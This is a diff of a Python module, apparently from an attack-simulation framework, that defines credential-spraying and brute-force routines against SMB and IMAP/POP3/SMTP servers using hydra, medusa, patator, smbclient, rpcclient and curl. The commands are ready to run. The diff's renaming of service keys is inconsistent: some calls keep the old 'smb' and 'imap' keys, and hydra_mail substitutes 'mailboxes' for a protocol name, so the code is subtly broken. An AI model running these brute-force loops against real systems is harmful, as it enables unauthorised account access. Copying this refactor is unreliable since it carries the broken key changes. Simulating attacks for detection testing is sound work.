@@ -166,37 +166,37 @@ def patator_telnet(c):
                          "-x ignore:fgrep='Login incorrect'"))
 
 
-@attack("brute_smb", technique=SPRAY, tool="patator", origins=INSIDE, needs=("smb",), packages=("patator",), seconds=30)
+@attack("brute_smb", technique=SPRAY, tool="patator", origins=INSIDE, needs=("files",), packages=("patator",), seconds=30)
 def patator_smb(c):
     return Assault(patator(c, "smb_login", f"host={server(c, 'smb')}", "fgrep=STATUS_LOGON_FAILURE"))
 
 
-@attack("brute_smb", technique=SPRAY, tool="smbclient", origins=ANYWHERE, needs=("smb",), packages=("smbclient",), seconds=30)
+@attack("brute_smb", technique=SPRAY, tool="smbclient", origins=ANYWHERE, needs=("files",), packages=("smbclient",), seconds=30)
 def smbclient_loop(c):
-    target = server(c, "smb")
+    target = server(c, "files")
     body = c.choose(f'smbclient -U "$user%$password" //{target}/docs -c ls', f'smbclient -U "$user%$password" -L {target}')
     return Assault(each_guess(c, f"timeout 8 {body}", 6, 10, pause(c.between(0.0, 0.7))))
 
 
-@attack("brute_smb", technique=SPRAY, tool="rpcclient", origins=INSIDE, needs=("smb",), packages=("smbclient",), seconds=30)
+@attack("brute_smb", technique=SPRAY, tool="rpcclient", origins=INSIDE, needs=("files",), packages=("smbclient",), seconds=30)
 def rpcclient_loop(c):
-    return Assault(each_guess(c, f'timeout 8 rpcclient -U "$user%$password" {server(c, "smb")} -c getusername', 6, 10,
+    return Assault(each_guess(c, f'timeout 8 rpcclient -U "$user%$password" {server(c, "files")} -c getusername', 6, 10,
                               pause(c.between(0.0, 0.7))))
 
 
-@attack("brute_smb", technique=SPRAY, tool="medusa", origins=INSIDE, needs=("smb",), packages=("medusa",), seconds=30)
+@attack("brute_smb", technique=SPRAY, tool="medusa", origins=INSIDE, needs=("files",), packages=("medusa",), seconds=30)
 def medusa_smb(c):
-    return Assault(medusa(c, "smbnt", server(c, "smb")))
+    return Assault(medusa(c, "smbnt", server(c, "files")))
 
 
-@attack("brute_smb", technique=SPRAY, tool="hydra", origins=ANYWHERE, needs=("smb",), packages=("hydra",), seconds=30)
+@attack("brute_smb", technique=SPRAY, tool="hydra", origins=ANYWHERE, needs=("files",), packages=("hydra",), seconds=30)
 def hydra_smb(c):
-    return Assault(hydra(c, "smb2", server(c, "smb"), f"-m {{{c.choose('workgroup:CORP', 'workgroup:WORKGROUP')}}}"))
+    return Assault(hydra(c, "smb2", server(c, "files"), f"-m {{{c.choose('workgroup:CORP', 'workgroup:WORKGROUP')}}}"))
 
 
-@attack("brute_mail", technique=BRUTE, tool="hydra", origins=ANYWHERE, needs=("imap",), packages=("hydra",), seconds=35)
+@attack("brute_mail", technique=BRUTE, tool="hydra", origins=ANYWHERE, needs=("mailboxes",), packages=("hydra",), seconds=35)
 def hydra_mail(c):
-    kind, port = c.choose(("imap", 143), ("pop3", 110), ("imap", 993), ("pop3", 995))
+    kind, port = c.choose(("imap", 143), ("pop3", 110), ("mailboxes", 993), ("pop3", 995))
     return Assault(hydra(c, kind, f"{server(c, 'imap')}:{port}", "-S" if port > 900 else ""), variant=f"{kind} {port}")
 
 
@@ -205,21 +205,21 @@ def hydra_smtp(c):
     return Assault(hydra(c, "smtp", f"{server(c, 'smtp')}/LOGIN", most=12))
 
 
-@attack("brute_mail", technique=BRUTE, tool="medusa", origins=ANYWHERE, needs=("imap",), packages=("medusa",), seconds=35)
+@attack("brute_mail", technique=BRUTE, tool="medusa", origins=ANYWHERE, needs=("mailboxes",), packages=("medusa",), seconds=35)
 def medusa_mail(c):
-    return Assault(medusa(c, c.choose("imap", "pop3"), server(c, "imap")))
+    return Assault(medusa(c, c.choose("imap", "pop3"), server(c, "mailboxes")))
 
 
-@attack("brute_mail", technique=BRUTE, tool="patator", origins=ANYWHERE, needs=("imap",), packages=("patator",), seconds=35)
+@attack("brute_mail", technique=BRUTE, tool="patator", origins=ANYWHERE, needs=("mailboxes",), packages=("patator",), seconds=35)
 def patator_mail(c):
     module, ignore = c.choose(("imap_login", "fgrep='Authentication failed'"), ("pop_login", "fgrep='Authentication failed'"))
     return Assault(patator(c, module, f"host={server(c, 'imap')}", ignore), variant=module)
 
 
-@attack("brute_mail", technique=BRUTE, tool="curl", origins=ANYWHERE, needs=("imap",), packages=("curl",), seconds=35)
+@attack("brute_mail", technique=BRUTE, tool="curl", origins=ANYWHERE, needs=("mailboxes",), packages=("curl",), seconds=35)
 def curl_mail(c):
     kind = c.choose("imap", "imaps", "pop3", "pop3s")
-    return Assault(each_guess(c, f'curl -sk -m 8 -u "$user:$password" {kind}://{server(c, "imap")}/', 4, 12,
+    return Assault(each_guess(c, f'curl -sk -m 8 -u "$user:$password" {kind}://{server(c, "mailboxes")}/', 4, 12,
                               pause(c.between(0.0, 0.6))), variant=kind)
 
 
